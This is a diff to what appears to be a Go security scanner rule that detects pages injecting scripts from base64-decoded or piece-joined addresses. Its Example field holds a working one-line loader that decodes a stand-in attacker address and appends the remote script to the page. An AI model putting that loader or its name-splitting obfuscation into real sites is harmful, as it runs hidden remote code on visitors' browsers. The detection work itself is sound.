@@ -244,13 +244,15 @@ type ScriptInjection struct{}
 // Meta implements analyze.Rule.
 func (ScriptInjection) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/script-injection", Version: 2, Title: "Injects a script from a hidden address",
+		ID: "browser/script-injection", Version: 3, Title: "Injects a script from a hidden address",
 		Help: "Code creates a <script> element (or writes a script tag) whose address it decodes at run time (atob, Buffer.from(…, " +
 			"\"base64\"), hex, character codes) and that points to a host that is neither local nor a known CDN. Loaders of analytics " +
 			"or payment SDKs name their CDN in plain text; hiding the address keeps a reviewer and a grep from seeing which code " +
 			"the page will run. This is how compromised packages pull their real payload into the sites that bundle them. Critical; " +
 			"high in a multi-megabyte bundle, where the decoded address must sit by the script element. A build plugin writing such a " +
-			"<script src> tag into the pages it emits, or a loader kept as text for the scripts it emits, counts the same.",
+			"<script src> tag into the pages it emits, or a loader kept as text for the scripts it emits, counts the same. So does a script " +
+			"element added by a file that joins at least two of the names it uses (document, createElement, script, cookie…) from pieces " +
+			"(w[\"doc\" + \"ument\"]): that only hides what the code does from a search.",
 		Remediation:     "Remove the package from any site build and review what the decoded address served.",
 		Example:         `const s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcy5qcw=="); document.head.appendChild(s)`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
@@ -282,6 +284,7 @@ func (ScriptInjection) Check(ctx context.Context, t *analyze.Target, r analyze.R
 		if len(inject) == 0 {
 			continue
 		}
+		reported := false
 		for _, s := range f.Facts.Strings {
 			if !s.Decoded {
 				continue
@@ -297,7 +300,27 @@ func (ScriptInjection) Check(ctx context.Context, t *analyze.Target, r analyze.R
 			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
 				Message:  "adds a script element loading " + u + ", an address it decodes at run time",
 				Evidence: rulekit.Ev(s.Snippet.String(), u, "")})
+			reported = true
 			break
+		}
+		if reported || f.Facts.Bundle() {
+			continue
+		}
+		// the element made with the names of the calls joined from
+		// pieces (d["create" + "Element"]("scr" + "ipt")): no loader
+		// hides from a search that it adds a script
+		var split []string
+		for _, s := range f.Facts.SplitNames {
+			switch s.Value {
+			case "document", "createElement", "script", "iframe", "appendChild", "src", "cookie", "localStorage":
+				split = append(split, s.Value)
+			}
+		}
+		if len(split) >= 2 {
+			s := f.Facts.SplitNames[0]
+			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium,
+				Message:  "adds a script element with the names it uses joined from pieces (" + strings.Join(split, ", ") + "), out of a search's sight",
+				Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
 		}
 	}
 	return nil
